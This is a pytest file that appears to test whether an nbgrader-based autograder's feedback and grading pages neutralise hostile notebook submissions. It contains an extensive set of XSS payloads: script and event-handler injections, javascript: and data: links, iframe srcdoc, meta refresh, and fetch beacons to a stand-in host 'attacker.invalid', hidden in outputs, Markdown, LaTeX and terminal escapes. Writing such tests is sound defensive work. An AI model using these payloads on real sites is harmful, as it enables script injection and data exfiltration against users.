"""What a submission shows, opened in a real browser: nothing of it runs there, and the cards can be read.

The network is cut off, so that nothing but the page itself is loaded; what it asks for is written down.
"""

# ruff: noqa: E501  (a payload is one cell)

from __future__ import annotations

import json
from contextlib import chdir
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers

from autograder import configuration, notebooks
from tests.browser import CARDS, needs_browser
from tests.end_to_end import mini_course as mini
from tests.end_to_end.mini_course import ASSIGNMENT
from tests.redteam.arena import MISSING, own_cell
from tests.redteam.test_own_design import FAR

pytestmark = [
    needs_browser,
    pytest.mark.skipif(bool(MISSING), reason=f"this machine has no {', '.join(MISSING)}"),
]
NOTEBOOK = "1_backprop_numpy"
HOST = "attacker.invalid"
REFRESH = f'<meta http-equiv="refresh" content="0;url=http://{HOST}/refreshed">'


def script(name: str) -> str:
    """Every way to run or to call home that a page offers, under a name that tells where it came from."""
    run = f"window.ran=(window.ran||[]).concat(['{name}'])"
    return (
        f"<script>{run};fetch('http://{HOST}/{name}');alert('{name}')</script>"
        f'<img src="http://{HOST}/{name}.png" onerror="{run}"><svg onload="{run}"><script>{run}</script></svg>'
        f'<details open ontoggle="{run}"></details><input autofocus onfocus="{run}"><body onload="{run}">'
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe><object data="http://{HOST}/{name}"></object>'
        f'<link rel="stylesheet" href="http://{HOST}/{name}.css"><style>@import "http://{HOST}/{name}.css";</style>'
        f'<base href="http://{HOST}/">{REFRESH}'
        f'<a id="{name}" href="javascript:{run}">click</a><a href="data:text/html,x">data</a>'
    )


def python(name: str) -> str:
    """The same as a Python string."""
    return repr(script(name))


SHOWING = "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
CELLS = {
    "html": SHOWING + f"display(HTML({python('html')}))",
    "svg": SHOWING + f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.ran=[1]\"><script>window.ran=[1]</script></svg>'))\ndisplay({{'image/svg+xml': {python('svg')}}}, raw=True)",
    "markdown": SHOWING + f"display(Markdown({python('markdown')}), Latex('$\\\\href{{javascript:alert(1)}}{{x}}$'))",
    "javascript": SHOWING + "display(Javascript(\"window.ran=['javascript'];alert(1)\"))",
    "bundle": SHOWING + f"bad = {python('bundle')}\ndisplay({{kind: bad for kind in ('text/html', 'image/svg+xml', 'text/markdown', 'text/latex', 'application/javascript', 'application/pdf', 'text/vnd.mermaid', 'image/png', 'image/jpeg', 'application/vnd.jupyter.widget-view+json')}}, metadata={{'image/png': {{'alt': bad, 'width': bad}}}}, raw=True)",
    "repr": f"class Shown:\n    def _repr_html_(self): return {python('repr')}\n    _repr_svg_ = _repr_markdown_ = _repr_javascript_ = _repr_html_\n    def __repr__(self): return 'shown-repr ' + self._repr_html_()\nShown()",
    "printed": f"import sys\nprint('shown-printed', {python('printed')})\nprint({python('stderr')}, file=sys.stderr)",
    "closing": "print('shown-closing </pre></div></div></body></html>' + " + python("closing") + ")",
    "escapes": f"print('\\x1b[31mshown-escapes' + {python('escapes')} + '\\x1b[0m\\x1b[38;2;1;2;3m\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07\\x1b[2J\\x07\\x9b31m')\nprint('\\x1b[\"onclick=\"window.ran=[1]m x')",
    "error": f"class Bad(Exception): pass\nBad.__name__ = Bad.__qualname__ = {python('error')}\nraise Bad('\\x1b[31mshown-error ' + {python('error')})",
    "source": f"# </script></pre></div><!-- {script('source')} --> <![CDATA[\n'''\n{script('source')}\n'''\nprint('shown-source')",
    "figure": f"import matplotlib.pyplot as plt\nplt.figure(figsize=(2, 1))\nplt.plot([1, 2])\nplt.title({python('figure')}[:60])\nplt.show()\nimport io\nfrom PIL import Image, PngImagePlugin\nfrom IPython.display import Image as Shown, display\nabout = PngImagePlugin.PngInfo()\nabout.add_text('Comment', {python('figure')})\nfile = io.BytesIO()\nImage.new('RGB', (8, 8)).save(file, 'png', pnginfo=about)\ndisplay(Shown(data=file.getvalue(), alt={python('figure')}))",
}  # fmt: skip
# It stands in for all that would come after it, so it is the last.
FORGED = (
    FAR
    + f"bad = {python('forged')}\npicture = 'iVBORw0KGgo\">' + bad\nfar_end.run_cell = lambda *a: {{'status': 'ok', 'seconds': 0, 'outputs': [\n"
    "    {'output_type': 'display_data', 'data': {'image/png': picture, 'image/jpeg': picture, 'text/html': bad}, 'metadata': {'image/png': {'alt': bad}}},\n"
    "    {'output_type': 'stream', 'name': bad, 'text': bad}, {'output_type': bad}, {'output_type': 'stream', 'name': 'stdout', 'text': 'shown-forged ' + bad},\n"
    "    {'output_type': 'error', 'ename': bad, 'evalue': bad, 'traceback': ['\\x1b[31m' + bad]}]}"
)
ANSWERS = {
    "linear": f"class Linear(Module):\n    W = b = type({python('card')}, (), {{}})()\n    def __init__(self, *a): pass",
    "relu": f"class ReLU(Module):\n    def forward(self, x): raise type('Shown' + {python('card')}, (Exception,), {{}})('shown-card `' + {python('card')})",
}
SHOWN = ("repr", "printed", "closing", "escapes", "error", "source", "forged", "card")
TEXTS = {
    "text": script("text"),
    "link": '[x](javascript:window.ran=1) <a href="JaVaScRiPt:window.ran=1">y</a> [z](data:text/html;base64,PHNjcmlwdD4=)',
    "fence": "```mermaid\ngraph TD\n A[\"<img src=x onerror=window.ran=['fence']>\"]\n```\n```html\n" + script("fence") + "\n```",
    "formula": "$x</script>" + script("formula") + "$ $$\\href{javascript:alert(1)}{x}$$ <math><mtext><script>window.ran=['formula']</script></mtext></math>",
}  # fmt: skip


def insert(folder: Path, cells: list[dict[str, Any]], answers: dict[str, str], last: str = "") -> None:
    """Change a submission of the small course."""
    path = folder / f"{NOTEBOOK}.ipynb"
    content = json.loads(path.read_text(encoding="utf-8"))
    for cell in content["cells"]:
        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
        cell["source"] = answers.get(gid, cell["source"])
    content["cells"][2:2] = cells
    if last:
        # The cell after it runs in the far end that it has replaced.
        content["cells"] += [own_cell(last), own_cell("'forged'")]
    path.write_text(json.dumps(content), encoding="utf-8")


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three submissions, graded, with their feedback."""
    folder = mini.make(tmp_path_factory.mktemp("browser"))
    insert(mini.hand_in(folder, "mallory"), [own_cell(source) for source in CELLS.values()], ANSWERS, FORGED)
    for student, kind in (("marie", "markdown"), ("ray", "raw")):
        insert(mini.hand_in(folder, student), [own_cell(text, kind) for text in TEXTS.values()], {})
    mini.run(folder, "autograder.cli", "grade", ASSIGNMENT, "--workers", "1")
    mini.run(folder, "nbgrader", "generate_feedback", ASSIGNMENT)
    return folder


@dataclass
class Visit:
    """A page that was opened, and what it did."""

    page: Any
    asked: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    @property
    def ran(self) -> Any:
        """What has set the marker."""
        return self.page.evaluate("window.ran ?? null")

    @property
    def beacons(self) -> list[str]:
        """Requests to the attacker."""
        return [url for url in self.asked if HOST in url]

    def live(self) -> list[str]:
        """Elements that could run something later, or at a click."""
        return self.page.evaluate(
            """() => [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
                .filter(a => /attacker|window.ran/.test(a.value) && (/^on/i.test(a.name) || a.name === 'srcdoc')
                    || /^(href|src|action|data|formaction|xlink:href)$/i.test(a.name)
                        && /^\\s*(javascript|data:text|vbscript)/i.test(a.value))
                .map(a => `${element.tagName} ${a.name}=${a.value.slice(0, 80)}`))"""
        )


def visit(browser: Any, path: Path) -> Visit:
    """Open a page, with the network cut off, and click on whatever the attacks have named."""
    page = browser.new_page()
    made = Visit(page)
    page.on("request", lambda request: made.asked.append(request.url))
    page.on("dialog", lambda dialog: (made.dialogs.append(dialog.message), dialog.dismiss()))
    page.route(
        "**/*", lambda route: route.continue_() if route.request.url == path.as_uri() else route.abort()
    )
    page.goto(path.as_uri(), wait_until="load")
    page.wait_for_timeout(300)
    return made


def feedback(course: Path, student: str) -> Path:
    return course / "gradebook" / "feedback" / student / ASSIGNMENT / f"{NOTEBOOK}.html"


def formgrader(course: Path, student: str) -> Path:
    """The page on which an instructor grades by hand, as formgrader renders it."""
    with chdir(course):
        config = configuration.read(course)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    source = course / "gradebook" / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    about = {"index": 0, "total": 1, "base_url": "", "student": student, "notebook_id": NOTEBOOK}
    page, _ = HTMLExporter(config=config).from_filename(str(source), resources=about)
    target = course / f"formgrader-{student}.html"
    target.write_text(page, encoding="utf-8")
    return target


PAGES = {"feedback": feedback, "formgrader": formgrader}


@pytest.mark.parametrize("kind", list(PAGES))
def test_nothing_that_a_submission_shows_runs_in_the_browser(course: Path, browser: Any, kind: str) -> None:
    seen = visit(browser, PAGES[kind](course, "mallory"))
    assert (seen.ran, seen.dialogs, seen.beacons, seen.live()) == (None, [], [], [])
    words = seen.page.inner_text("body")
    assert [name for name in SHOWN if f"shown-{name}" not in words] == []
    seen.page.close()


@pytest.mark.parametrize("kind", list(PAGES))
def test_cards_and_figures_are_seen_amid_hostile_outputs(course: Path, browser: Any, kind: str) -> None:
    seen = visit(browser, PAGES[kind](course, "mallory"))
    cards = seen.page.locator(CARDS)
    assert cards.count() == 2
    for number in range(2):
        box = cards.nth(number).bounding_box()
        assert cards.nth(number).is_visible()
        assert box["width"] > 200 and box["height"] > 30
    assert "0 of" in cards.nth(0).inner_text()
    drawn = seen.page.evaluate("[...document.images].filter(i => i.naturalWidth > 0).length")
    assert drawn == 2
    seen.page.close()


@pytest.mark.parametrize("student", ["marie", "ray"])
@pytest.mark.parametrize("kind", list(PAGES))
def test_nothing_in_a_text_cell_runs_in_the_browser(
    course: Path, browser: Any, kind: str, student: str
) -> None:
    """Markdown and raw cells. What may stay is a picture from another server."""
    seen = visit(browser, PAGES[kind](course, student))
    pictures = [url for url in seen.beacons if url.endswith(".png")]
    assert (seen.ran, seen.dialogs, seen.live()) == (None, [], [])
    assert seen.beacons == pictures
    assert seen.page.locator(CARDS).count() == 2
    seen.page.close()


def test_the_test_itself_would_see_each_of_them(browser: Any, tmp_path: Path) -> None:
    page = tmp_path / "open.html"
    payload = script("open").replace(REFRESH, "")  # it would leave the page before the test has looked at it
    page.write_text(f"<!DOCTYPE html><p>{payload}</p>", encoding="utf-8")
    seen = visit(browser, page)
    assert "open" in seen.ran
    assert seen.dialogs
    assert {f"http://{HOST}/open", f"http://{HOST}/open.png"} <= set(seen.beacons)
    assert any("javascript:" in element for element in seen.live())
    assert any("onerror" in element for element in seen.live())
    seen.page.close()


@pytest.mark.parametrize("kind", ["output", "markdown"])
def test_without_our_reading_and_rendering_it_would_run(browser: Any, tmp_path: Path, kind: str) -> None:
    """The same payloads on a page of stock nbconvert's."""
    payload = script(kind).replace(REFRESH, "")
    output = nbformat.v4.new_output("display_data", data={"text/html": payload})
    cells = {
        "output": nbformat.v4.new_code_cell("x", outputs=[output]),
        "markdown": nbformat.v4.new_markdown_cell(payload),
    }
    notebook = nbformat.v4.new_notebook(cells=[cells[kind]])
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(notebook)
    path = tmp_path / "stock.html"
    path.write_text(page, encoding="utf-8")
    seen = visit(browser, path)
    assert seen.dialogs == [kind]
    assert f"http://{HOST}/{kind}.png" in seen.beacons
    seen.page.close()


def test_the_attacks_are_as_they_were_handed_in(course: Path) -> None:
    path = course / "gradebook" / "autograded" / "mallory" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    sources = [cell.source for cell in notebooks.read(path).cells]
    assert set(CELLS.values()) <= set(sources)
